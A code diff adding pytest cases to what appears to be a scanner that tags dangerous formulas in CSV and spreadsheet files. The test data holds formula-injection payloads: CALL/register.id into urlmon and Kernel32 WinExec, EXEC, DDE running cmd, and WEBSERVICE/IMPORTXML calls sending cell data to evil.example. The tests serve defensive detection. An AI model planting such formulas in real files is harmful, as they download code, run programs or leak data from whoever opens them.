@@ -229,3 +229,39 @@ def test_parts_of_a_word_page_that_are_elsewhere_had_no_tag(head: bytes, tag: st
 def test_parts_beside_a_word_page_have_no_tag(href: bytes) -> None:
     page = b'<html><head><link rel=Edit-Time-Data href="' + href + b'"></head>x</html>'
     assert not {tag for tag in found(attached(page, "a.doc"))[0] if tag.startswith("office:")}
+
+
+@pytest.mark.parametrize("cell", ["={}", "+{}", "-{}", "@{}", "\t={}", '"={}"', "=1+{}", "=IF(1,{})"])
+@pytest.mark.parametrize(
+    ("call", "tag"),
+    [
+        ('CALL("urlmon","URLDownloadToFileA","JJCCJJ",0)', "office:macro-runs-program"),
+        ('register.id ( "Kernel32","WinExec","JCJ")', "office:macro-runs-program"),
+        ("EXEC(CHAR(99)&CHAR(97))", "office:macro-runs-program"),
+        ('_xlfn.WEBSERVICE("http://evil.example/"&A1)', "office:remote-object"),
+        ('IMPORTXML(CONCAT("http://evil.example/",A1),"//a")', "office:remote-object"),
+        ('RTD("prog.id","server","x")', "office:dde-link"),
+    ],
+    ids=["call", "register", "exec", "webservice", "import", "rtd"],
+)
+def test_functions_in_a_table_of_text_had_no_tag(cell: str, call: str, tag: str) -> None:
+    quoted = call.replace('"', '""') if cell.startswith('"') else call
+    assert tag in found(attached(f"a,b\r\n1,{cell.format(quoted)}\r\n".encode(), "a.csv"))[0]
+
+
+def test_a_table_in_utf_16_and_a_query_of_libreoffice() -> None:
+    assert found(attached('a\t=EXEC("calc")\r\n'.encode("utf-16"), "a.xls"))[0] >= {"office:macro-runs-program"}
+    assert found(attached(b'a,"=DDE(""cmd"";""/C calc"";""A0"")"\r\n', "a.csv"))[0] >= {"office:dde"}
+
+
+@pytest.mark.parametrize(
+    "row",
+    [
+        "-5.00,please call (0123) and register (free), RTD (Pt100)",
+        '-5.00,"call ("later")"',
+        'x,they told us to exec("ls") it',
+        '=SUM(A1:A3),=IMPORTANT("x")',
+    ],
+)
+def test_an_ordinary_table_has_no_function_with_a_tag(row: str) -> None:
+    assert not {tag for tag in found(attached(f"{row}\r\n".encode(), "a.csv"))[0] if tag.startswith("office:")}
